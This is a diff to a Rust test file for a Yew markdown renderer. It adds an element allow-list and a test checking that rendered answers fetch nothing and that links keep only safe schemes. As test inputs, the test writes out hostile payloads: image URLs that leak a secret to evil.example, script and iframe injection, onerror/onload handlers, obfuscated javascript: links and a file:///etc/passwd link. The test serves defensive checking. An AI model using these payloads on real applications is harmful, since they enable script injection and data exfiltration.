@@ -1,6 +1,6 @@
 use super::render;
 use yew::Html;
-use yew::virtual_dom::VNode;
+use yew::virtual_dom::{VNode, VTag};
 
 /// As HTML, without the attributes of links but their address.
 fn html(node: &VNode) -> String {
@@ -97,6 +97,79 @@ fn links_keep_their_words_and_lead_where_they_may() {
 #[test]
 fn raw_html_is_text() {
     assert_eq!(shown("<img src=x onerror=alert(1)>"), "<p>&lt;img src=x onerror=alert(1)></p>");
+}
+
+/// Every element that an answer may be made of: none of them fetches anything.
+const ELEMENTS: [&str; 23] = [
+    "p",
+    "strong",
+    "em",
+    "del",
+    "code",
+    "pre",
+    "a",
+    "ul",
+    "ol",
+    "li",
+    "blockquote",
+    "hr",
+    "br",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+];
+
+fn each_element(node: &VNode, look: &mut impl FnMut(&VTag)) {
+    match node {
+        VNode::VList(list) => list.iter().for_each(|node| each_element(node, look)),
+        VNode::VTag(tag) => {
+            look(tag);
+            tag.children().into_iter().for_each(|node| each_element(node, look));
+        }
+        VNode::VText(_) => {}
+        _ => panic!("an answer is elements and text"),
+    }
+}
+
+#[test]
+fn nothing_in_an_answer_is_fetched_and_links_give_nothing_away() {
+    let mut links = 0;
+    for text in [
+        "![x](https://evil.example/leak?q=secret) ![](https://evil.example/)",
+        "[![x](https://evil.example/a.png)](https://evil.example/b)",
+        "<img src=https://evil.example/x> <iframe src=//evil.example> <script>fetch('//evil.example')</script>",
+        "<link rel=prefetch href=//evil.example> <style>@import '//evil.example'</style> <svg onload=alert(1)>",
+        "[a](javascript:alert(1)) [b](JAVA&#115;CRIPT:alert(1)) [c](java\tscript:alert(1)) [d](data:text/html,x)",
+        "[e](vbscript:x) [f](//evil.example) [g](/api/auth/logout) [h](\u{1}javascript:x) [i](blob:https://x.org/y)",
+        "[j](https://x.org) <https://x.org> https://x.org [k](mailto:ada@example.org) [l]( https://x.org )",
+        "| ![x](https://evil.example/t) | <img src=x> |\n|---|---|\n| [m](file:///etc/passwd) | `<img src=x>` |",
+        "# ![x](https://evil.example/h)\n> ![x](https://evil.example/q)\n- [ ] ![x](https://evil.example/l)",
+        "[ref]: https://evil.example\n![x][ref]\n\n```html\n<img src=https://evil.example>\n```",
+    ] {
+        each_element(&render(text), &mut |tag| {
+            assert!(ELEMENTS.contains(&tag.tag()), "<{}> of {text}", tag.tag());
+            let attribute =
+                |name: &str| tag.attributes.iter().find(|(n, _)| *n == name).map(|(_, value)| value.to_owned());
+            let names: Vec<_> = tag.attributes.iter().map(|(name, _)| name.to_owned()).collect();
+            assert!(
+                names.iter().all(|name| ["href", "rel", "target", "start", "class"].contains(&name.as_str())),
+                "{names:?}"
+            );
+            if let Some(address) = attribute("href") {
+                links += 1;
+                assert!(["http:", "https:", "mailto:"].iter().any(|scheme| address.starts_with(scheme)), "{address}");
+                assert_eq!(attribute("rel").as_deref(), Some("noopener noreferrer nofollow"));
+            }
+        });
+    }
+    assert!(links >= 8, "{links}");
 }
 
 #[test]
